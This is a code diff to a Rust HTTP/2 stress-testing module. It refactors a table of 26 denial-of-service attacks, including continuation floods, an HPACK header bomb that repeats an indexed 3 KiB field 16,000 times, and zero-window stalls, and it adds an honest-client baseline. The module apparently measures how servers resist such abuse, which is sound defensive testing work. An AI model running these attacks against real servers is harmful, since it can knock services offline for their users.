@@ -10,9 +10,9 @@ use crate::http2_abuse::hpack;
 use crate::http2_abuse::peer::{Peer, get};
 
 /// Streams that a connection may have open: as many as are worth trying.
-const STREAMS: usize = 100;
+pub(super) const STREAMS: usize = 100;
 /// The largest window.
-const WINDOW: u32 = 0x7fff_ffff;
+pub(super) const WINDOW: u32 = 0x7fff_ffff;
 
 /// An attack under way; an error says that the server ended the connection.
 pub type Running<'p> = Pin<Box<dyn Future<Output = io::Result<()>> + Send + 'p>>;
@@ -51,8 +51,8 @@ pub const ATTACKS: [Attack; 26] = [
     ends("continuation flood", continuations),
     ends("empty continuations", empty_continuations),
     bears("a head that does not end", unfinished_head),
-    bears("header bomb", header_bomb),
-    bears("cookie crumbs", cookie_crumbs),
+    bears("header bomb", |peer| named_again(peer, (b"x-bomb", vec![b'y'; 3000]), "/", 16_000)),
+    bears("cookie crumbs", |peer| named_again(peer, (b"cookie", b"a".to_vec()), "/slow", 1_500)),
     bears("heads as large as they may be", large_heads),
     // Windows.
     bears("no window", |peer| large_answers(peer, 0, 0)),
@@ -80,12 +80,15 @@ const fn ends(name: &'static str, run: for<'p> fn(&'p mut Peer) -> Running<'p>) 
     Attack { name, must_end: true, run }
 }
 
-const fn bears(name: &'static str, run: for<'p> fn(&'p mut Peer) -> Running<'p>) -> Attack {
+pub(super) const fn bears(name: &'static str, run: for<'p> fn(&'p mut Peer) -> Running<'p>) -> Attack {
     Attack { name, must_end: false, run }
 }
 
-/// No attack: as many requests as an honest client can send, for the machine's own share in the figures.
-pub fn honest(peer: &mut Peer) -> Running<'_> {
+/// No attack: what an honest client does, for the machine's own share in the figures.
+pub const HONEST: Attack = bears("an honest client", honest);
+
+/// As many requests as an honest client can send.
+fn honest(peer: &mut Peer) -> Running<'_> {
     Box::pin(async {
         for stream in streams() {
             let reply = peer.get(stream, "/", Duration::from_secs(60)).await;
@@ -98,7 +101,7 @@ pub fn honest(peer: &mut Peer) -> Running<'_> {
 }
 
 /// Clients' streams are odd.
-fn streams() -> impl Iterator<Item = u32> {
+pub(super) fn streams() -> impl Iterator<Item = u32> {
     (1..).step_by(2)
 }
 
@@ -159,30 +162,19 @@ fn unfinished_head(peer: &mut Peer) -> Running<'_> {
     })
 }
 
-/// A field of 3 KiB enters the table once and is named 16,000 times in each block.
-fn header_bomb(peer: &mut Peer) -> Running<'_> {
-    Box::pin(async {
+/// A field that enters the table once and is named many times in each block: cheap to send, a field each for the server.
+fn named_again<'p>(
+    peer: &'p mut Peer,
+    field: (&'static [u8], Vec<u8>),
+    path: &'static str,
+    times: usize,
+) -> Running<'p> {
+    Box::pin(async move {
         let mut first = hpack::literals(get("/"));
-        first.extend(hpack::incremental(b"x-bomb", &[b'y'; 3000]));
+        first.extend(hpack::incremental(field.0, &field.1));
         peer.send(&[Frame::headers(1, true, first)]).await?;
-        let mut block = hpack::literals(get("/"));
-        block.extend(vec![hpack::indexed(62); 16_000]);
-        let mut streams = streams().skip(1);
-        peer.pour(|| {
-            streams.next().map(|stream| Frame::headers(stream, true, block.clone())).into_iter().collect()
-        })
-        .await
-    })
-}
-
-/// Crumbs of one byte, named by index: cheap to send, a field each for the server.
-fn cookie_crumbs(peer: &mut Peer) -> Running<'_> {
-    Box::pin(async {
-        let mut first = hpack::literals(get("/"));
-        first.extend(hpack::incremental(b"cookie", b"a"));
-        peer.send(&[Frame::headers(1, true, first)]).await?;
-        let mut block = hpack::literals(get("/slow"));
-        block.extend(vec![hpack::indexed(62); 1_500]);
+        let mut block = hpack::literals(get(path));
+        block.extend(vec![hpack::indexed(62); times]);
         let mut streams = streams().skip(1);
         peer.pour(|| {
             streams.next().map(|stream| Frame::headers(stream, true, block.clone())).into_iter().collect()
